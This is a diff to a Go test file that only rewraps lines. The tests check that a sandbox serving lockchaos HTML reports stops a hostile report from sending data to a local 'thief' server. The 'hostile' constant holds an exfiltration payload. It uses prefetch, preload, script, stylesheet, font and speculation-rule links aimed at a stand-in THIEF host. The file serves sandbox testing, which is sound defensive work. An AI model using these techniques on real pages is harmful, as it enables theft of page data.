@@ -39,7 +39,8 @@ func newThief(t *testing.T) *thief {
 		t.Fatal(err)
 	}
 	th := &thief{addr: l.Addr().String(), udp: u.LocalAddr().String()}
-	srv := &http.Server{ReadHeaderTimeout: 10 * time.Second, Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { th.note(r.Method + " " + r.URL.String()) }),
+	srv := &http.Server{ReadHeaderTimeout: 10 * time.Second,
+		Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { th.note(r.Method + " " + r.URL.String()) }),
 		ConnState: func(_ net.Conn, s http.ConnState) {
 			if s == http.StateNew {
 				th.note("a connection")
@@ -74,7 +75,8 @@ func (th *thief) all() []string {
 	return append([]string(nil), th.got...)
 }
 
-// hostile is a report that tries to read the other pages and to send them away, by every way that a page has. What it came to stands in its title and in its text.
+// hostile is a report that tries to read the other pages and to send them away, by
+// every way that a page has. What it came to stands in its title and in its text.
 const hostile = `<!doctype html><title>begun</title><link rel=prefetch href="http://THIEF/prefetch"><link rel=preload as=image href="http://THIEF/preload"><link rel=preconnect href="http://THIEF"><link rel=dns-prefetch href="//THIEF">
 <link rel=stylesheet href="http://THIEF/style"><link rel=modulepreload href="http://THIEF/module"><link rel=manifest href="http://THIEF/manifest"><script src="http://THIEF/script"></script><script type=speculationrules>{"prefetch":[{"urls":["http://THIEF/speculated"]}]}</script>
 <style>@font-face{font-family:x;src:url(http://THIEF/font)}body{background:url(http://THIEF/background);font-family:x}</style>
@@ -118,7 +120,8 @@ const wait = (what, p) => Promise.race([p, new Promise(r => setTimeout(r, 3000, 
 })();
 </script>`
 
-// A report that somebody sent runs no script. What is written into it sends nothing away; that a browser connects ahead to where it points says only that it was opened.
+// A report that somebody sent runs no script. What is written into it sends nothing
+// away; that a browser connects ahead to where it points says only that it was opened.
 func TestHostileReport(t *testing.T) {
 	ctx := chromium(t)
 	root := folder(t)
@@ -133,7 +136,8 @@ func TestHostileReport(t *testing.T) {
 		}
 	}
 	await(t, ctx, `document.title === "begun" && location.hash === "#here" && document.getElementById("out").textContent === ""`)
-	if err := chromedp.Do(ctx, chromedp.Navigate("http://"+addr+"/"), chromedp.Navigate("http://"+addr+"/run/old")); err != nil { // the browser has had the time to do what it meant to
+	// the browser has had the time to do what it meant to
+	if err := chromedp.Do(ctx, chromedp.Navigate("http://"+addr+"/"), chromedp.Navigate("http://"+addr+"/run/old")); err != nil {
 		t.Fatal(err)
 	}
 	for _, what := range th.all() {
@@ -161,7 +165,8 @@ func reads(t *testing.T, ctx context.Context, addr string) {
 	await(t, ctx, `location.pathname === "/files/old/a/report.html"`)
 }
 
-// Should a script run all the same, it has an origin of its own, from which nothing can be read; and of the ways to send something away those are left that no policy knows of.
+// Should a script run all the same, it has an origin of its own, from which nothing can
+// be read; and of the ways to send something away those are left that no policy knows of.
 func TestHostileScript(t *testing.T) {
 	ctx := chromium(t)
 	root := folder(t)
@@ -188,13 +193,15 @@ func TestHostileScript(t *testing.T) {
 		}
 	}
 	for _, what := range th.all() {
-		if what != "a connection" && what != "GET /speculated" && !strings.HasPrefix(what, "a packet: \x00\x01\x00\x00") { // of STUN: a request to bind
+		// of STUN: a request to bind
+		if what != "a connection" && what != "GET /speculated" && !strings.HasPrefix(what, "a packet: \x00\x01\x00\x00") {
 			t.Errorf("sent away: %q", what)
 		}
 	}
 }
 
-// What lockchaos writes works as it does in a file: the index filters, its links lead to reports, a report's timeline moves, the address keeps the view, data can be saved.
+// What lockchaos writes works as it does in a file: the index filters, its links lead
+// to reports, a report's timeline moves, the address keeps the view, data can be saved.
 func TestReportsWorkUnderTheSandbox(t *testing.T) {
 	ctx := chromium(t)
 	root := t.TempDir()
@@ -234,7 +241,8 @@ func TestReportsWorkUnderTheSandbox(t *testing.T) {
 	await(t, ctx, `location.pathname.endsWith("/report.html") && document.readyState === "complete"`)
 }
 
-// written writes a run with one scenario, of a history in which violations are planted, as lockchaos writes it.
+// written writes a run with one scenario, of a history in which violations are
+// planted, as lockchaos writes it.
 func written(t *testing.T, dir string) reports.Scenario {
 	t.Helper()
 	var text bytes.Buffer
@@ -250,7 +258,8 @@ func written(t *testing.T, dir string) reports.Scenario {
 	if _, err := synthetic.Generate(c, enc.Encode); err != nil {
 		t.Fatal(err)
 	}
-	sc := reports.Scenario{Name: "made-up/none/unfenced", Dir: "made-up.none.unfenced", Lock: "made-up", Fault: "none", Store: "unfenced", Run: "made"}
+	sc := reports.Scenario{Name: "made-up/none/unfenced", Dir: "made-up.none.unfenced", Lock: "made-up", Fault: "none",
+		Store: "unfenced", Run: "made"}
 	folder := filepath.Join(dir, sc.Dir)
 	if err := os.MkdirAll(folder, 0o755); err != nil {
 		t.Fatal(err)
